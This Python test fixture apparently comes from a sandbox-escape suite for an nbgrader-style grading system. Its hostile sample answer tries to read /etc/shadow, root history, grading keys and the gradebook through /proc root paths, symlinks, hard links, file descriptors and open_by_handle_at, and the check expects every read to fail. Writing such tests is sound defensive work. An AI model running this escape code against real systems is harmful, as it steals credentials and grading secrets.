"""Reads the host's files by every name they may have: other roots, descriptors, links, handles, mounts."""

from tests.hostile.escape import answer, nothing_got_through

ANSWERS = {
    "square": answer("""
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
wanted = ['@SECRET@', '@COURSE@/nbgrader_config.py', '@COURSE@/grading/receipts.key', '/etc/passwd',
          '/etc/shadow', '/root/.bash_history', '/etc/hostname', '/var/log/syslog',
          '@COURSE@/grading/gradebook.db']
roots = ['', '/proc/1/root', '/proc/self/root', '/proc/1/cwd', '/newroot', '/oldroot',
         '/proc/thread-self/root', *(f'/proc/{n}/root' for n in os.listdir('/proc') if n.isdigit()),
         '/..', '/proc/1/root/../..']
for root in roots:
    for path in wanted:
        attempt(root + path, lambda: open(root + path, 'rb').read(100))
        os.path.lexists('hostile-link') and os.remove('hostile-link')
        os.symlink(root + path, 'hostile-link')
        attempt('symlink to ' + root + path, lambda: open('hostile-link', 'rb').read(100))
        attempt('link to ' + root + path, lambda: os.link(root + path, 'hostile-hard') or 'linked')
attempt('listing', lambda: [f for f in glob.glob('@COURSE@/*') + glob.glob('/root/.*') + glob.glob('/home/*')
                            if not f.endswith(('pyenv', 'venv'))] or None)
handle = ctypes.create_string_buffer(b'\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0', 128)
for number in range(3, 40):
    attempt(f'open by handle {number}', lambda: libc.open_by_handle_at(number, handle, 0))
    for path in ('/..', '/../../etc/passwd', ''):
        attempt(f'descriptor {number}{path}', lambda: os.listdir(f'/proc/self/fd/{number}{path}') or None)
attempt('name to handle', lambda: libc.name_to_handle_at(-100, b'/', handle, bytes(8), 0))
""")
}
SAYS = ["watched"]
STOCK = "reads them all: the notebook runs as the instructor"
CHECK = nothing_got_through
